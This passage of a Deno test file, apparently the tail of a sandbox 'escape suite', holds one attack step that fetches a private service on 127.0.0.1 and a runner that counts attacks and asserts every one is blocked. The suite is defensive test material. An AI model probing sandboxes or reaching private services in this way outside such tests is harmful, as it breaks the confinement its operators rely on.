      ? pyFetch(`http://127.0.0.1:${PRIVATE_PORT}/`)
      : ts(`const r = await fetch("http://127.0.0.1:${PRIVATE_PORT}/");
detail = await r.text();
breached = detail.includes("private service");`),
    granted(o) {
      assert.equal(o.breached, true, `not reached: ${o.detail}`);
      assert.ok(privateHits > 0);
    },
  });
}

Deno.test({
  name: "escape suite",
  sanitizeOps: false,
  sanitizeResources: false,
  async fn(t) {
    let attacks = 0;
    let blocked = 0;
    for (const step of suite) {
      if (ONLY !== undefined && !step.name.includes(ONLY)) continue;
      if (step.ignore) {
        await t.step(step); // reported as ignored, with the reason printed at the top
        continue;
      }
      attacks++;
      if (await t.step(step)) blocked++;
    }
    console.log(`escape suite: ${attacks} attacks, ${blocked} blocked`);
    assert.equal(blocked, attacks, "an attack got through (see the failures above)");
    if (ONLY === undefined) {
      assert.ok(attacks >= (OS_SANDBOX ? 30 : 8), `only ${attacks} attacks ran`);
    }
  },
});
